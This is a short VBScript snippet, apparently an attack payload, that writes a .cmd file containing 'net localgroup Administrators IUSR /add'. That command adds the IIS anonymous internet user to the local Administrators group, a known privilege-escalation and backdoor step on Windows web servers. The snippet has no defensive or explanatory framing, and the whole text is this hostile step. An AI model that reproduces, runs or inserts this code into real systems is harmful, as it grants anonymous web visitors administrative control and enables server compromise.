Set fso = CreateObject("Scripting.FileSystemObject")
Set f = fso.CreateTextFile("C:\docs\example.cmd", True)
f.WriteLine "net localgroup Administrators IUSR /add"
f.Close
